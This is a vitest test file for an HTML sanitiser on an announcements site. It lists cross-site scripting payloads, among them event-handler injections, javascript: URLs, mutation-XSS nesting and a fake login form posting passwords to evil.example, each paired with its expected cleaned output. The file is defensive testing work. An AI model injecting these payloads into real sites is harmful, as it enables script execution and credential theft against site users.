import { expect, test } from 'vitest'
import { contentOffice } from '../../tests/content.ts'
import { testSite } from '../../tests/site.ts'
import { cleanHtml } from './sanitise.ts'

/** What may be left of each: nothing that runs, calls out, or looks like a part of the site. */
const attacks: [string, string][] = [
  ['<script>alert(1)</script>', ''],
  ['<SCRIPT SRC=//evil.example></SCRIPT>text', 'text'],
  ['<img src="https://a.example/x.png" onerror="alert(1)">', '<img src="https://a.example/x.png" />'],
  ['<img src=x: onerror=alert(1)>', ''],
  ['<img src="x.png">', ''],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', ''],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#106;ava\nscript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href=" javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,x">x</a>', '<a>x</a>'],
  ['<a href="vbscript:x">x</a>', '<a>x</a>'],
  ['<a href="//evil.example">x</a>', '<a>x</a>'],
  ['<a href="http://plain.example">x</a>', '<a>x</a>'],
  ['<p style="position:fixed;inset:0" class="modal" id="x">over all</p>', '<p>over all</p>'],
  ['<style>body{display:none}</style><p>x</p>', '<p>x</p>'],
  ['<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>', ''],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', ''],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['<form action="https://evil.example"><input name="password"><button>Log in</button></form>', 'Log in'],
  ['<details open ontoggle=alert(1)>x</details>', 'x'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
  ['<b onclick=alert(1)>x</b', '<b>x</b>'],
]

// O-17
test.each(attacks)('%s is harmless when it is stored', (html, clean) => {
  expect(cleanHtml(html)).toBe(clean)
  // What was cleaned stays as it is.
  expect(cleanHtml(clean)).toBe(clean)
})

test('what an announcement may hold stays as it was written', () => {
  const html =
    '<h3>ঈদ</h3><p><b>৫০%</b> <em>পর্যন্ত</em>. <a href="/promotions#eid">শর্ত</a> ' +
    '<a href="https://site.example/eid">বাইরে</a></p><ul><li>এক</li></ul>' +
    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><img src="/content/eid.svg" alt="চাঁদ" width="10" />'
  expect(cleanHtml(html)).toBe(html)
})

test('HTML is cleaned before it is stored: the table holds nothing of it', async () => {
  const site = await testSite()
  const { publish } = await contentOffice(site)
  const body = '<p>কথা</p><img src=x onerror="stolen()"><script>stolen()</script>'
  await publish({ kind: 'PL', texts: { bn: { title: '<b>title</b>', body } } })
  const { texts } = await site.db.selectFrom('content_version').select('texts').executeTakeFirstOrThrow()
  expect(JSON.stringify(texts)).not.toContain('stolen')
  const { player } = await site.call('announcements', { types: 'PL' })
  // A title is text: it is shown as it was typed.
  expect(player).toMatchObject([{ title: '<b>title</b>', content: '<p>কথা</p>' }])
})
